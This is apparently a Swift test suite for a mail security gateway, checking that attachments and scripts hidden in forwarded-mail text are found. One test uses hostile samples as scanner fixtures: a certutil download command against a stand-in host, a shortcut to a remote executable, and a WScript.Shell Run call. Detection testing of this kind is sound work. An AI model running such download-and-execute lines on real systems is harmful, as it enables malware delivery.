import Foundation
import MailModel
import Members
import TestSupport
import Testing

/// Text of a message that begins with fields of mail, as every forwarded message does that stands in the text: it is text.
@Suite struct QuotedMailUnpackingTests {
    private static let archive =
        "UEsDBBQAAAAAAAAAIQCMHn1xBQAAAAUAAAAFAAAAYS50eHR3b3Jkc1BLAQIUAxQAAAAAAAAAIQCMHn1xBQAAAAUAAAAFAAAAAAAA"
        + "AAAAAACAAQAAAABhLnR4dFBLBQYAAAAAAQABADMAAAAoAAAAAAA="

    private static let fronts = [
        "From: Ann\nSent: Friday\nTo: Bob\nSubject: x\n\n", "Subject: a\nFrom: b\n\n",
        "Received: from a by b\nFrom: x@y.example\n\n",
        "From a@b.example Thu Jan  1 00:00:00 2026\nFrom: a\nSubject: x\n\n",
        "From: a@b.example\nMIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n",
    ]

    /// Parts behind a text, each with its type and its file.
    private func report(on parts: [(text: String, type: String, file: String?)]) throws -> Report {
        var mail = "From: a@x.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        mail += "Content-Type: text/plain\r\n\r\nsee there\r\n"
        for (text, type, file) in parts {
            mail += "--b\r\nContent-Type: \(type)\r\n"
            if let file { mail += "Content-Disposition: attachment; filename=\(file)\r\n" }
            mail += "\r\n\(text.replacingOccurrences(of: "\n", with: "\r\n"))\r\n"
        }
        let gateway = try TestGateway()
        try gateway.configure()
        return try gateway.report(on: Array("\(mail)--b--\r\n".utf8), by: try gateway.fork(1))
    }

    @Test(arguments: fronts) func filesInIt(_ front: String) throws {
        let labelled = "-----BEGIN FILE-----\n\(Self.archive)\n-----END FILE-----\n"
        var parts: [(text: String, type: String, file: String?)] = []
        for (type, file) in [("text/plain", nil), ("text/csv", "a.csv"), ("text/html", "a.html")] {
            for content in [Self.archive, labelled, "var x = \"\(Self.archive)\";"] {
                parts.append((front + content, type, file))
            }
        }
        let report = try report(on: parts)
        let holders = Set(report.parts.filter { $0.names == ["a.txt"] }.map { $0.path.prefix { $0 != "/" } })
        #expect(holders.count >= parts.count, "\(holders)")
    }

    @Test(arguments: fronts) func commandsInIt(_ front: String) throws {
        let contents = [
            ("certutil -urlcache -f http://x.example/y z\n", "application/x-bat"),
            ("[InternetShortcut]\nURL=file://x/y.exe\n", "application/x-mswinurl"),
            ("new ActiveXObject(\"WScript.Shell\").Run(\"calc\")\n", "text/x-windows-script"),
        ]
        let types = try report(on: contents.map { (front + $0.0, "text/plain", "a.txt") }).parts.map(\.detectedType)
        for (_, type) in contents { #expect(types.contains(type), "\(types)") }
    }

    /// Nothing but words.
    @Test(arguments: fronts.dropLast()) func honestText(_ front: String) throws {
        let report = try report(on: [(front + "Hello Bob,\n\nsee you on Friday.\n\nAnn\n", "text/plain", nil)])
        #expect(report.parts.count == 3 && report.parts.last?.detectedType == "text/plain")
        #expect(report.unchecked.isEmpty && report.banned.isEmpty, "\(report.unchecked)")
    }

    /// Under any other type it is mail, and a page besides where its name says so: browsers pass over the fields.
    @Test func mailThatIsAPageByItsName() throws {
        let page =
            Self.fronts[4] + "<html><a download=a.zip href=\"data:application/zip;base64,\(Self.archive)\">x</a></html>"
        let padded = "X-Padding: \(String(repeating: "x ", count: 600))\n" + page
        let report = try report(
            on: ["a.html", "a.dat"].map { (padded, "application/octet-stream", $0) })
        #expect(report.parts.filter { $0.detectedType == "message/rfc822" }.count == 2)
        let holders = report.parts.filter { $0.names == ["a.txt"] }.map { $0.path.prefix { $0 != "/" } }
        #expect(Set(holders) == ["1.2"], "\(holders)")
    }
}
